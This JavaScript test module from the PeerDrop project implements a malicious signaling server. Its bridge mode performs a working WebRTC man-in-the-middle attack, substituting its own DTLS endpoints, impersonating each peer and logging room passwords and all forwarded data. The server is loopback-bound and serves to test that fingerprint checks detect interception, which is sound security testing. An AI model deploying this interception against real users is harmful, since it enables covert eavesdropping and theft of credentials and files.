// A malicious signaling server (issue 14): it speaks our signaling contract
// (docs/signaling.md) to the web app, which it serves from web/dist, and to
// the CLI (`--server`), and it records every payload it receives.
//
// Why a server of its own rather than a proxy in front of peerdrop-server:
// to bridge two peers the attacker must answer one's offer itself, send an
// offer of its own to the other, and keep both sides' ICE candidates from
// ever reaching each other. A proxy would have to rewrite Socket.IO
// packets inside Engine.IO long-polling bodies and WebSocket frames, in both
// directions (re-masking the client's frames), and keep the real server's
// session state consistent with what it had rewritten. A server built on
// npm `socket.io` (the reference implementation, which our clients already
// talk to in tests/integration/client-interop.test.mjs) does all of that by
// construction: an event handler decides what each side receives. The
// contract it speaks is the small part of docs/signaling.md the clients use:
// create-room, join-room (the client's admission value compared as a
// string: the attacker needs no Argon2id), leave-room, ice-servers, the
// relays, user-joined/user-left, and /config.
//
// Modes:
//   honest  relays offer/answer/ice-candidate verbatim, as peerdrop-server
//           does: a transfer through it must work (the control).
//   bridge  for each offer from X to Y it becomes the man in the middle: it
//           answers X's offer from its own WebRTC endpoint (node-datachannel,
//           libdatachannel: its own DTLS certificate), sends Y an offer of its
//           own in X's name, keeps every ICE candidate of X and Y for itself
//           (and gives each its own, in the other's name), and bridges the
//           two data channels message by message, verbatim: text as text,
//           binary as binary, in order. Each peer sees an ordinary peer with
//           the other's socket id, and a DTLS fingerprint that is the
//           attacker's. Only a check that both peers saw the same pair of
//           fingerprints (docs/authentication.md §6) can tell.
//
// The record: `signaling` (every Engine.IO packet a client sent, as text, and
// every HTTP request head: what "the server received"), `data` (every
// data-channel message the bridge forwarded: { bridge, dir, binary, data }),
// `bridges` (one entry per bridged pair, with its state), `members` (the
// socket ids that entered a room, in order: the creator first).

import http from 'node:http';
import { readFile } from 'node:fs/promises';
import { extname, join, normalize, sep } from 'node:path';
import { Server } from 'socket.io';
import ndc from 'node-datachannel';
import { ROOT } from './lib.mjs';

const MIME = {
  '.html': 'text/html; charset=utf-8',
  '.js': 'text/javascript; charset=utf-8',
  '.mjs': 'text/javascript; charset=utf-8',
  '.css': 'text/css; charset=utf-8',
  '.json': 'application/json',
  '.webmanifest': 'application/manifest+json',
  '.svg': 'image/svg+xml',
  '.png': 'image/png',
  '.ico': 'image/x-icon',
  '.wasm': 'application/wasm',
  '.txt': 'text/plain; charset=utf-8',
};

/* The attacker's WebRTC endpoints: loopback only (the tests run in a
 * namespace whose only interface is lo, tests/e2e/run.sh), no STUN, and
 * 256 KiB messages accepted, as the CLI and Chromium announce
 * (docs/protocol.md §5.1), so the peers' chunks pass unchanged. */
const RTC_CONFIG = { iceServers: [], bindAddress: '127.0.0.1', maxMessageSize: 262144 };

const isStr = (v) => typeof v === 'string';
/** The a=fingerprint values of an SDP (each once). */
const fingerprints = (sdp) => [...new Set([...sdp.matchAll(/^a=fingerprint:(.+?)\r?$/gm)].map((m) => m[1].trim()))];

/* relayLane: the honest mode relays `lane` as peerdrop-server does
 * (docs/signaling.md, Lanes); false plays a server from before issue 16,
 * which dropped it (tests/e2e/lanes.test.mjs). */
export async function startMitm({ mode = 'honest', relayLane = true, webRoot = process.env.PEERDROP_WEB_ROOT ?? join(ROOT, 'web', 'dist') } = {}) {
  if (mode !== 'honest' && mode !== 'bridge') throw new Error(`unknown mode ${mode}`);
  const record = { signaling: [], data: [], bridges: [], members: [], stray: [], problems: [] };
  const rooms = new Map(); // roomId -> { password, members: [socket id, oldest first] }
  const roomOf = new Map(); // socket id -> roomId
  const bridges = new Map(); // "offerer answerer" -> bridge
  let bridgeCount = 0;

  const httpServer = http.createServer();
  // Every request head the server receives (page loads, /config, polling).
  const keepHead = (req) => record.signaling.push(`${req.method} ${req.url}\n${Object.entries(req.headers).map(([k, v]) => `${k}: ${v}`).join('\n')}`);
  httpServer.prependListener('request', keepHead);
  httpServer.prependListener('upgrade', keepHead);
  httpServer.on('request', async (req, res) => {
    if (req.url.startsWith('/socket.io/')) return; // socket.io's own listener answers
    const path = decodeURIComponent(new URL(req.url, 'http://x').pathname);
    if (path === '/config') {
      // with a length: the CLI reads no chunked body (src/cli/ice_servers.c)
      const body = '{"iceServers":[]}';
      res.writeHead(200, { 'content-type': 'application/json', 'content-length': body.length, 'cache-control': 'no-store' });
      return res.end(body);
    }
    let file = normalize(join(webRoot, path));
    if (!file.startsWith(webRoot + sep) && file !== webRoot) {
      res.writeHead(403, { 'content-length': 0 });
      return res.end();
    }
    let body = await readFile(file).catch(() => null);
    if (!body || path.endsWith('/')) {
      file = join(webRoot, 'index.html'); // the single-page app
      body = await readFile(file).catch(() => null);
    }
    if (!body) {
      res.writeHead(404, { 'content-length': 0 });
      return res.end();
    }
    res.writeHead(200, { 'content-type': MIME[extname(file)] ?? 'application/octet-stream', 'content-length': body.length, 'cache-control': 'no-store' });
    res.end(body);
  });

  const io = new Server(httpServer, { path: '/socket.io/', serveClient: false, maxHttpBufferSize: 1e6 });
  // Every Engine.IO packet a client sends, before Socket.IO parses it.
  io.engine.on('connection', (eio) => {
    eio.on('packet', (p) => record.signaling.push(`${p.type} ${isStr(p.data) ? p.data : p.data ? Buffer.from(p.data).toString('latin1') : ''}`));
  });

  const emitTo = (id, event, payload) => io.to(id).emit(event, payload);
  const fail = (ack, socket, event, code, message) => {
    const error = { code, message };
    if (typeof ack === 'function') ack({ ok: false, error });
    else socket.emit('signaling-error', { event, code, message });
  };

  function leave(socket) {
    const roomId = roomOf.get(socket.id);
    if (!roomId) return false;
    roomOf.delete(socket.id);
    const room = rooms.get(roomId);
    room.members = room.members.filter((m) => m !== socket.id);
    for (const m of room.members) emitTo(m, 'user-left', { socketId: socket.id });
    if (!room.members.length) rooms.delete(roomId);
    for (const [k, b] of bridges) if (b.offerer === socket.id || b.answerer === socket.id) closeBridge(k, 'a peer left');
    return true;
  }

  io.on('connection', (socket) => {
    socket.on('create-room', (p, ack) => {
      if (!isStr(p?.roomId) || !isStr(p?.password)) return fail(ack, socket, 'create-room', 'INVALID_PAYLOAD', 'invalid payload');
      if (roomOf.has(socket.id)) return fail(ack, socket, 'create-room', 'ALREADY_IN_ROOM', 'already in a room');
      if (rooms.has(p.roomId)) return fail(ack, socket, 'create-room', 'ROOM_EXISTS', 'room exists');
      rooms.set(p.roomId, { password: p.password, members: [socket.id] });
      roomOf.set(socket.id, p.roomId);
      record.members.push(socket.id);
      if (typeof ack === 'function') ack({ ok: true, roomId: p.roomId });
      socket.emit('room-created', { roomId: p.roomId });
    });
    socket.on('join-room', (p, ack) => {
      if (!isStr(p?.roomId) || !isStr(p?.password)) return fail(ack, socket, 'join-room', 'INVALID_PAYLOAD', 'invalid payload');
      if (roomOf.has(socket.id)) return fail(ack, socket, 'join-room', 'ALREADY_IN_ROOM', 'already in a room');
      const room = rooms.get(p.roomId);
      if (!room) return fail(ack, socket, 'join-room', 'ROOM_NOT_FOUND', 'no such room');
      if (room.password !== p.password) return fail(ack, socket, 'join-room', 'BAD_PASSWORD', 'wrong password');
      const peers = [...room.members];
      room.members.push(socket.id);
      roomOf.set(socket.id, p.roomId);
      record.members.push(socket.id);
      if (typeof ack === 'function') ack({ ok: true, roomId: p.roomId, peers });
      socket.emit('join-success', { roomId: p.roomId, peers });
      for (const m of peers) emitTo(m, 'user-joined', { socketId: socket.id });
    });
    socket.on('leave-room', (_p, ack) => {
      if (!leave(socket)) return fail(ack, socket, 'leave-room', 'NOT_IN_ROOM', 'not in a room');
      if (typeof ack === 'function') ack({ ok: true });
    });
    socket.on('ice-servers', (_p, ack) => typeof ack === 'function' && ack({ ok: true, iceServers: [], iceServersTtl: 1200 }));
    for (const event of ['offer', 'answer', 'ice-candidate']) {
      socket.on(event, (p, ack) => {
        const roomId = roomOf.get(socket.id);
        if (!roomId) return fail(ack, socket, event, 'NOT_IN_ROOM', 'not in a room');
        const target = p?.targetSocketId;
        if (!isStr(target) || target === socket.id || !rooms.get(roomId).members.includes(target)) return fail(ack, socket, event, 'PEER_NOT_FOUND', 'no such peer');
        if (typeof ack === 'function') ack({ ok: true });
        if (mode === 'honest') {
          const lane = relayLane && Number.isInteger(p.lane) ? { lane: p.lane } : {};
          if (event === 'ice-candidate') emitTo(target, event, { candidate: p.candidate ?? null, from: socket.id, ...lane });
          else emitTo(target, event, { sdp: p.sdp, from: socket.id, ...lane });
        } else {
          intercept(event, socket.id, target, p);
        }
      });
    }
    socket.on('disconnect', () => leave(socket));
  });

  /* bridge mode: what X sends for Y goes to the attacker's endpoint facing X. */
  function intercept(event, from, to, p) {
    if (event === 'offer') {
      if (!isStr(p.sdp)) return;
      for (const k of [`${from} ${to}`, `${to} ${from}`]) if (bridges.has(k)) closeBridge(k, 'a new offer');
      bridges.set(`${from} ${to}`, openBridge(from, to, p.sdp));
      return;
    }
    const b = bridges.get(`${from} ${to}`) ?? bridges.get(`${to} ${from}`);
    if (!b) return record.stray.push(`${event} from ${from} to ${to}`); // late, for a bridge already closed
    const side = from === b.offerer ? b.x : b.y; // the attacker's endpoint that peer talks to
    if (event === 'answer') {
      if (side !== b.y || !isStr(p.sdp)) return;
      try {
        b.info.fingerprints.answerer = fingerprints(p.sdp);
        b.y.pc.setRemoteDescription(p.sdp, 'answer');
        b.y.remoteSet = true;
        for (const c of b.y.early.splice(0)) addCandidate(b.y, c);
      } catch (e) {
        record.problems.push(`bridge ${b.id}: the answer: ${e.message}`);
      }
      return;
    }
    const c = p.candidate;
    if (!c || !isStr(c.candidate) || c.candidate === '') return; // end of candidates: nothing to do
    if (side.remoteSet) addCandidate(side, c);
    else side.early.push(c);
  }

  function addCandidate(side, c) {
    try {
      side.pc.addRemoteCandidate(c.candidate.replace(/^a=/, ''), isStr(c.sdpMid) ? c.sdpMid : '0');
    } catch {
      // a TCP or otherwise unusable candidate: libjuice refuses it, as a peer would ignore it
    }
  }

  function openBridge(offerer, answerer, offerSdp) {
    const id = ++bridgeCount;
    // What each side sent and what it got instead, as the attacker substituted them.
    const fp = { offerer: fingerprints(offerSdp), toOfferer: [], answerer: [], toAnswerer: [] };
    const info = { id, offerer, answerer, xOpen: false, yOpen: false, forwarded: { xy: 0, yx: 0 }, fingerprints: fp, closed: null };
    record.bridges.push(info);
    const mk = (name) => ({ pc: new ndc.PeerConnection(`mitm-${id}-${name}`, RTC_CONFIG), dc: null, remoteSet: false, early: [], queue: [] });
    const b = { id, offerer, answerer, info, x: mk('x'), y: mk('y') };
    const cand = (to, from) => (candidate, mid) =>
      emitTo(to, 'ice-candidate', { candidate: { candidate: candidate.replace(/^a=/, ''), sdpMid: mid || '0', sdpMLineIndex: 0 }, from });
    // Facing X (the offerer): answer its offer, in Y's name.
    b.x.pc.onLocalDescription((sdp, type) => {
      if (type !== 'answer') return;
      fp.toOfferer = fingerprints(sdp);
      emitTo(offerer, 'answer', { sdp, from: answerer });
    });
    b.x.pc.onLocalCandidate(cand(offerer, answerer));
    b.x.pc.onDataChannel((dc) => {
      b.x.dc = dc;
      wire(b, b.x, b.y, 'xy');
      info.xOpen = true;
    });
    // Facing Y (the answerer): an offer of the attacker's own, in X's name.
    b.y.pc.onLocalDescription((sdp, type) => {
      if (type !== 'offer') return;
      fp.toAnswerer = fingerprints(sdp);
      emitTo(answerer, 'offer', { sdp, from: offerer });
    });
    b.y.pc.onLocalCandidate(cand(answerer, offerer));
    b.y.dc = b.y.pc.createDataChannel('peerdrop'); // ordered, reliable: docs/protocol.md §1
    wire(b, b.y, b.x, 'yx');
    b.y.dc.onOpen(() => {
      info.yOpen = true;
      flush(b.y);
    });
    for (const s of [b.x, b.y])
      s.pc.onStateChange((st) => (st === 'failed' || st === 'closed') && closeBridge(`${offerer} ${answerer}`, `${st}`, b));
    try {
      b.x.pc.setRemoteDescription(offerSdp, 'offer');
      b.x.remoteSet = true;
    } catch (e) {
      record.problems.push(`bridge ${id}: the offer: ${e.message}`);
    }
    return b;
  }

  /* Every message that arrives on one side goes out on the other, in order,
   * text as text and binary as binary; kept until that side is open. */
  function wire(b, from, to, dir) {
    from.dc.onMessage((m) => {
      const binary = !isStr(m);
      const data = binary ? Buffer.from(m) : Buffer.from(m, 'utf8');
      record.data.push({ bridge: b.id, dir, binary, data });
      b.info.forwarded[dir] += data.length;
      to.queue.push(binary ? data : m);
      flush(to);
    });
    from.dc.onClosed(() => closeBridge(`${b.offerer} ${b.answerer}`, `${dir === 'xy' ? 'the offerer' : 'the answerer'} closed its channel`, b));
  }

  function flush(side) {
    if (!side.dc || !side.dc.isOpen()) return;
    for (const m of side.queue.splice(0)) {
      try {
        if (isStr(m)) side.dc.sendMessage(m);
        else side.dc.sendMessageBinary(m);
      } catch (e) {
        record.problems.push(`send: ${e.message}`);
      }
    }
  }

  function closeBridge(key, why, which) {
    const b = which ?? bridges.get(key);
    if (!b || b.info.closed) return;
    b.info.closed = why;
    if (bridges.get(key) === b) bridges.delete(key);
    // A side's close reaches the other side, as if the peer had closed:
    // after the data that was queued for it (libdatachannel sends in order).
    setTimeout(() => {
      for (const s of [b.x, b.y]) {
        try {
          s.dc?.close();
        } catch {}
        try {
          s.pc.close();
        } catch {}
      }
    }, 200);
  }

  await new Promise((resolve) => httpServer.listen(0, '127.0.0.1', resolve));
  const url = `http://127.0.0.1:${httpServer.address().port}/`;
  return {
    url,
    mode,
    record,
    /** The create-room / join-room payloads the clients sent. */
    roomRequests() {
      const out = [];
      for (const s of record.signaling) {
        const m = /^message 2\d*\["(create-room|join-room)",(\{.*\})\]$/s.exec(s);
        if (m) {
          const body = JSON.parse(m[2]);
          out.push({ event: m[1], roomId: body.roomId, password: body.password });
        }
      }
      return out;
    },
    async close() {
      for (const k of [...bridges.keys()]) closeBridge(k, 'the server stops');
      await new Promise((r) => setTimeout(r, 300));
      io.close();
      httpServer.closeAllConnections?.();
      await new Promise((resolve) => httpServer.close(() => resolve()));
    },
  };
}

/** After the last server: libdatachannel's threads end, so node can exit. */
export function mitmCleanup() {
  ndc.cleanup();
}
